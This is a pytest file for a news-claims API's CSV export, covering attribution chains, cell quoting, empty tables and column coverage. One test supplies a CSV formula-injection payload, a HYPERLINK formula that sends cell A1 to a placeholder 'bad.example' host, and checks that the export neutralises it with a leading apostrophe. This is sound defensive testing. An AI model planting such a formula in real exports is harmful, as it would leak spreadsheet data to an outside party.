"""Lists as CSV."""

import pytest

from service.api import listings
from service.api.listings import Listing
from service.formats import cells
from tests.api import Api, named, outlet, unnamed
from tests.contracts import open_newsroom
from tests.streams import table

CHAIN = [outlet("Ming Pao", as_printed="the Hong Kong paper"), named("Wu Shicun", role="president")]


def test_a_claim_is_a_row_with_its_last_link_in_columns_and_its_chain_as_text(api: Api) -> None:
    article = {"url": "https://news.example/1", "title": "Reefs", "publisher": {"name": "The Courier"}}
    claim = api.claim(id="clm_one", article=article, attribution=CHAIN)
    api.tag("clm_one")

    [row] = table(api, "/v1/claims?format=csv")

    told = {
        "id": "clm_one", "article_url": "https://news.example/1", "publisher": "The Courier", "published_at": "",
        "statement": claim["statement"], "quote": "", "source_type": "expert", "chain": "Ming Pao > Wu Shicun",
        "speaker": "Wu Shicun", "speaker_is_a": "person", "role": "president", "hearsay_depth": "2",
        "corroboration": "single_source", "origins_min": "1", "origins_max": "1", "documented": "false",
        "tags": "check:done (1)", "updated_at": api.get("/v1/claims/clm_one")["updated_at"],
    }  # fmt: skip
    assert {name: row[name] for name in told} == told


@pytest.mark.parametrize(
    ("link", "shown"),
    [
        (unnamed("described", as_printed="a senior official"), "a senior official"),
        (unnamed("described", description="an official of the port"), "an official of the port"),
        (unnamed("bare"), "(bare)"),
    ],
)
def test_who_has_no_name_stands_in_a_chain_as_the_article_presents_them(api: Api, link: object, shown: str) -> None:
    api.claim(attribution=[outlet("Ming Pao"), link])

    [row] = table(api, "/v1/claims?format=csv")

    assert (row["chain"], row["speaker"]) == (f"Ming Pao > {shown}", "")


def test_the_outlets_own_voice_has_no_chain(api: Api) -> None:
    api.claim(attribution=[])

    [row] = table(api, "/v1/claims?format=csv")

    assert (row["chain"], row["speaker"], row["speaker_id"]) == ("", "", "")


@pytest.mark.parametrize("begins", ["=", "+", "-", "@"])
def test_what_a_spreadsheet_would_run_begins_with_an_apostrophe(api: Api, begins: str) -> None:
    formula = f'{begins}HYPERLINK("https://bad.example/?"&A1,"x")'
    api.claim(formula, id="clm_one")

    [row] = table(api, "/v1/claims?format=csv")

    assert row["statement"] == f"'{formula}"
    assert api.get("/v1/claims/clm_one")["statement"] == formula


@pytest.mark.parametrize("begins", [*cells.FORMULA])
def test_whatever_begins_a_formula_is_made_text_and_numbers_stay_numbers(begins: str) -> None:
    assert cells.lines([[f"{begins}1", "1", -1, None, True]]).startswith((b"'", b"\"'"))
    assert cells.lines([["a=1", -1, None, True]]) == b"a=1,-1,,true\r\n"


def test_lines_commas_and_quotes_stay_in_their_cell(api: Api) -> None:
    odd = 'He said: "no",\nand then, "yes".\r\nüñ 汉字'
    api.claim(odd)

    [row] = table(api, "/v1/claims?format=csv")

    assert row["statement"] == odd


def test_a_table_of_nothing_has_the_names_of_its_columns(api: Api) -> None:
    with api.call("GET", "/v1/tags?format=csv") as answer:
        assert answer.get_data() == (
            b"id,rev,claim,term,note,reviewer,claim_rev,stale,created_at,updated_at,withdrawn_at\r\n"
        )
        assert answer.content_type == "text/csv; charset=utf-8; header=present"


def test_every_list_is_a_table_with_a_row_a_document(api: Api) -> None:
    open_newsroom(api)
    api.post("/v1/articles", {"id": "art_copy", "url": "https://two.example/1", "copy_of": {"id": "art_one"}})
    cited = {"article": {"url": "https://three.example"}, "attribution": CHAIN}
    api.tie("clm_one", "supported_by", cited, id="evd_cited")

    for path in ("articles", "sources", "claims", "evidence", "tags", "reviewers", "changes"):
        documents = api.get(f"/v1/{path}", limit=200)["items"]
        assert len(table(api, f"/v1/{path}?format=csv")) == len(documents) > 0
    [tie] = table(api, "/v1/evidence?format=csv&id=evd_cited")
    assert (tie["article_url"], tie["chain"], tie["speaker"]) == (
        "https://three.example/",
        "Ming Pao > Wu Shicun",
        "Wu Shicun",
    )
    [copy] = table(api, "/v1/articles?format=csv&id=art_copy")
    assert copy["copy_of"] == "art_one"


def test_the_text_of_an_article_is_in_its_row_only_if_it_is_asked_for(api: Api) -> None:
    open_newsroom(api)

    assert "text" not in table(api, "/v1/articles?format=csv")[0]
    assert table(api, "/v1/articles?format=csv&fields=text")[0] == {"id": "art_one", "text": "It is closed."}


@pytest.mark.parametrize("name", [name for name, one in vars(listings).items() if isinstance(one, Listing)])
def test_every_key_of_a_document_has_a_column(name: str) -> None:
    listing = getattr(listings, name)
    keys = {column.key for column in listing.columns}

    assert set(listing.shown.of_list["fields"].known) - {"same_text_as", "new", "snippet"} == keys
    assert len({column.name for column in listing.columns}) == len(listing.columns)
